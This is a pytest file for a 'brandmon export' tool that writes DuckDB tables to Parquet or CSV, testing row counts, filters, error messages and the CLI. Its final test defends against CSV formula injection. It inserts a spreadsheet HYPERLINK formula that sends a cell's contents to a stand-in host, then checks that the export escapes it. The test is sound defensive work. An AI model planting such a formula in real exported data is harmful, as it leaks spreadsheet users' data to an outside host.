"""`brandmon export`: tables and views to Parquet/CSV by DuckDB's COPY, read back with pyarrow."""

from __future__ import annotations

import hashlib
import json
from datetime import UTC, datetime

import pyarrow.compute as pc
import pyarrow.csv as pcsv
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from pipeline.exporting import ExportError, export_table, parse_since
from pipeline.store import Store

from .conftest import fill_store


def _checksum(ids) -> str:
    return hashlib.md5(",".join(sorted(ids)).encode()).hexdigest()


@pytest.mark.parametrize("n", [pytest.param(1_000_000, marks=pytest.mark.slow), 50_000])
def test_mentions_export_reads_back_whole(store, tmp_path, n):
    """An export of a 1M-mention store to Parquet reads back with the same row counts (50k in the fast tier)."""
    fill_store(store, n)
    res = export_table(store, "mentions", tmp_path / "mentions.parquet")
    assert (res.rows, res.fmt) == (n, "parquet")
    t = pq.read_table(tmp_path / "mentions.parquet")
    assert t.num_rows == n
    with store.read() as con:
        want_ids, want_span = con.execute(
            "SELECT md5(string_agg(mention_id, ',' ORDER BY mention_id)), sum(span_end) FROM mentions"
        ).fetchone()
    assert _checksum(t.column("mention_id").to_pylist()) == want_ids
    assert pc.sum(t.column("span_end")).as_py() == want_span
    assert t.schema.names[:3] == ["mention_id", "doc_id", "brand_id"]

    facts = export_table(store, "mention_facts", tmp_path / "facts.parquet")  # a table the dashboard reads
    assert pq.read_metadata(tmp_path / "facts.parquet").num_rows == facts.rows == n
    view = export_table(store, "current_scores", tmp_path / "scores.parquet")  # a view
    assert pq.read_metadata(tmp_path / "scores.parquet").num_rows == view.rows == n
    assert not list(tmp_path.glob(".*.part"))


def test_filters_by_post_time_and_brand(store, tmp_path):
    fill_store(store, 3_000)
    since = datetime(2024, 12, 30, tzinfo=UTC)
    res = export_table(store, "mentions", tmp_path / "m.csv", since=since, brand="shopok")
    with store.read() as con:
        want = con.execute(
            "SELECT count(*) FROM mentions m JOIN documents d USING (doc_id) "
            "WHERE d.posted_at >= ? AND m.brand_id = 'shopok'",
            [since],
        ).fetchone()[0]
    assert 0 < want < 1000 and res.rows == want
    assert res.filters == [
        "since 2024-12-30T00:00:00+00:00 by documents.posted_at",
        "brand shopok by mentions.brand_id",
    ]
    t = pcsv.read_csv(tmp_path / "m.csv")
    assert t.num_rows == want and set(t.column("brand_id").to_pylist()) == {"shopok"}
    # scores belong to a mention: filtered through it; documents by their own posted_at, times written in UTC
    assert export_table(store, "scores", tmp_path / "s.parquet", brand="shopok").rows == 1000
    export_table(store, "documents", tmp_path / "d.csv", since=since)
    first = (tmp_path / "d.csv").read_text(encoding="utf-8").splitlines()[1]
    assert "2024-12-31 00:00:00+00" in first


def test_refusals(store, tmp_path):
    tmp_path = tmp_path / "out"
    tmp_path.mkdir()
    with pytest.raises(ExportError, match="--table: no table or view 'nope'; known: alerts, "):
        export_table(store, "nope", tmp_path / "x.csv")
    with pytest.raises(ExportError, match="--since: schema_migrations has no time column"):
        export_table(store, "schema_migrations", tmp_path / "x.csv", since=datetime.now(UTC))
    with pytest.raises(ExportError, match="--brand: sources has no brand"):
        export_table(store, "sources", tmp_path / "x.csv", brand="shopok")
    with pytest.raises(ExportError, match="--format: give parquet or csv"):
        export_table(store, "mentions", tmp_path / "x.xlsx")
    with pytest.raises(ExportError, match="not a date"):
        parse_since("last tuesday")
    assert parse_since("2d", datetime(2024, 5, 3, tzinfo=UTC)) == datetime(2024, 5, 1, tzinfo=UTC)
    assert not list(tmp_path.iterdir())  # nothing written, not even a part file


def test_cli_export(settings, tmp_path):
    from brandmon.cli import app

    store = Store.from_settings(settings)
    store.upgrade()
    fill_store(store, 900)
    out = tmp_path / "neg.parquet"
    r = CliRunner().invoke(
        app,
        [
            "--data-dir",
            str(settings.data_dir),
            "export",
            "--table",
            "mention_facts",
            "--brand",
            "lastochka",
            "--since",
            "2024-12-30",
            "--out",
            str(out),
            "--json",
        ],
    )
    assert r.exit_code == 0, r.output
    got = json.loads(r.stdout)
    assert got["rows"] == pq.read_metadata(out).num_rows > 0
    r = CliRunner().invoke(
        app,
        ["--data-dir", str(settings.data_dir), "export", "--table", "mentions", "--since", "soon", "--out", str(out)],
    )
    assert r.exit_code == 2 and "--since: 'soon' is not a date" in r.stderr


def test_csv_keeps_formula_looking_text_as_text(settings, store, tmp_path):
    """A post whose text or author starts like a formula is exported to CSV with a leading ' (a spreadsheet then
    shows it as text instead of running it); --raw-cells and Parquet keep the stored value."""
    from brandmon.cli import app

    hostile = {
        "d1": ('=HYPERLINK("http://x.test/?"&A1,"open")', "@admin"),
        "d2": ("+7 999 ... звоните", "-dash"),
        "d3": ("\tcmd", "обычный автор"),
        "d4": ("обычный текст = не формула", "user"),
    }
    with store.write() as con:
        for doc_id, (text, author) in hostile.items():
            con.execute(
                "INSERT INTO documents (doc_id, source_id, url, author, posted_at, text, text_hash, spam) "
                "VALUES (?, 'src', 'https://f.test/' || ?, ?, TIMESTAMPTZ '2024-12-31 00:00:00+00', ?, md5(?), false)",
                [doc_id, doc_id, author, text, text],
            )
    export_table(store, "documents", tmp_path / "safe.csv")
    t = pcsv.read_csv(tmp_path / "safe.csv").to_pydict()
    got = dict(zip(t["doc_id"], zip(t["text"], t["author"], strict=True), strict=True))
    assert got["d1"] == ("'" + hostile["d1"][0], "'@admin")
    assert got["d2"] == ("'" + hostile["d2"][0], "'-dash")
    assert got["d3"] == ("'\tcmd", "обычный автор")
    assert got["d4"] == hostile["d4"]  # nothing else changes
    assert pcsv.read_csv(tmp_path / "safe.csv").column_names[:3] == ["doc_id", "source_id", "url"]

    export_table(store, "documents", tmp_path / "all.parquet")
    rows = pq.read_table(tmp_path / "all.parquet").to_pydict()
    assert dict(zip(rows["doc_id"], rows["text"], strict=True))["d1"] == hostile["d1"][0]

    r = CliRunner().invoke(
        app,
        [
            "--data-dir",
            str(settings.data_dir),
            "export",
            "-t",
            "documents",
            "-o",
            str(tmp_path / "raw.csv"),
            "--raw-cells",
        ],
    )
    assert r.exit_code == 0, r.output
    t = pcsv.read_csv(tmp_path / "raw.csv").to_pydict()
    assert dict(zip(t["doc_id"], t["author"], strict=True))["d1"] == "@admin"
